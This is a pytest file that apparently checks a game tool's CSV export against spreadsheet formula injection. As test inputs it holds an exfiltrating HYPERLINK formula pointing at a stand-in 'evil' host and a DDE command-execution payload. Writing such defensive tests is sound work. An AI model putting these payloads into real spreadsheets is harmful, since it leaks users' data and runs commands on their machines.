"""Tables that go to a spreadsheet and come back: nothing in them runs, whatever a pack says."""

import csv
import io
from contextlib import suppress
from pathlib import Path

import pytest

import games
from games.faults import BrokenPack
from games.spreadsheet import MOST_CELLS, read_lines, read_rows, written
from schema.text import Text

FORMULA = '=HYPERLINK("http://evil/?"&A1,"click")'
NAME = Path("units.csv")


def cells_of(data: bytes) -> list[list[str]]:
    """What a spreadsheet gets to see."""
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


@pytest.mark.parametrize(
    "word", [FORMULA, "+1+1", "-1+1", "@SUM(A1)", "\t=1", " =1", "\xa0=1", "\r=1", "+cmd|' /C'!A0"]
)
def test_no_word_is_a_formula(word: str) -> None:
    """It gets an apostrophe, which spreadsheets take for "text" and the reader takes away."""
    data = written([["id", "name"], ["a", word]])
    assert cells_of(data)[1][1] == f"'{word}"
    (row,) = read_rows(NAME, data, ("id", "name"))
    assert row.cells["name"] == word.strip("\xa0 \t\r\n'")


@pytest.mark.parametrize("word", ["-", "-1", "+2", "-1.5", "-1,5", "3", "yes", "C4 D5", "'=1", ""])
def test_what_is_no_formula_stays_as_it_is(word: str) -> None:
    assert cells_of(written([["id", "name"], ["a", word]]))[1][1] == word


def test_a_template_of_a_hostile_pack_holds_no_formula(tmp_path: Path) -> None:
    """Hints, names and ids of any pack go into the tables."""
    game = games.load("battlelore-2e")
    units = {
        ident: kind.model_copy(update={"name": Text({"en": FORMULA}), "label": "@x"})
        for ident, kind in game.unit_types.items()
    }
    hostile = game.model_copy(update={"unit_types": type(game.unit_types)(units)})
    games.write_template(hostile, tmp_path / "mine")
    found = [
        cell
        for file in (tmp_path / "mine").glob("*.csv")
        for line in cells_of(file.read_bytes())
        for cell in line
    ]
    assert any("HYPERLINK" in cell for cell in found)
    assert [cell for cell in found if cell[:1] in ("=", "@", "+")] == []


@pytest.mark.parametrize(
    "text", ["sep=", "sep=\n", "sep=\r\n", "sep=\nid;name\na;b\n", "SEP=\rid", "sep= \nid"]
)
def test_a_first_line_that_names_no_delimiter_is_no_trouble(text: str) -> None:
    """Excel writes ``sep=;``; what is cut there is read with the usual one, or refused."""
    with suppress(BrokenPack):
        lines = read_lines(NAME, text.encode())
        assert not lines or lines[0][0] > 1


@pytest.mark.parametrize("one", [";", "\n"])
def test_a_table_of_very_many_cells_is_refused_and_not_held(one: str) -> None:
    """At the bound it is read; each empty cell or line takes a hundred times its byte."""
    file = Path("units.csv")
    assert read_lines(file, (one * MOST_CELLS).encode())
    with pytest.raises(BrokenPack, match=str(MOST_CELLS)):
        read_lines(file, (one * (MOST_CELLS + 1)).encode())
